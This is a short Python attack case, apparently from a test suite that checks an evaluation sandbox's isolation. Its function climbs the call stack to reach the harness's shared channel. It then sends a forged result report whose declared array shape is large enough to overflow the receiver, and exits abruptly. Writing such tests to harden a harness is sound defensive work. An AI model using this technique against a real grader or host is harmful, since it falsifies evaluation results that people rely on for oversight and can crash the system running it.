"""Send an array whose declared shape overflows.

Seen: crashed
Held from: weak
Bare: none: there is no report to forge without a wall
"""

import os
import struct
import sys

from sandbox import candidate


def attack(**others):
    frame = sys._getframe()
    while "setting" not in frame.f_locals:
        frame = frame.f_back
    shared = frame.f_locals["setting"].shared
    tree = b'{"dict":{"kind":"ok","reason":"","value":{"array":0}}}'
    header = b'{"tree":' + tree + b',"buffers":[["<f8",[4611686018427387903,4,4]]]}'
    candidate._report([struct.pack("<4sIQ", b"EVW1", len(header), 0), header], shared)
    os._exit(0)
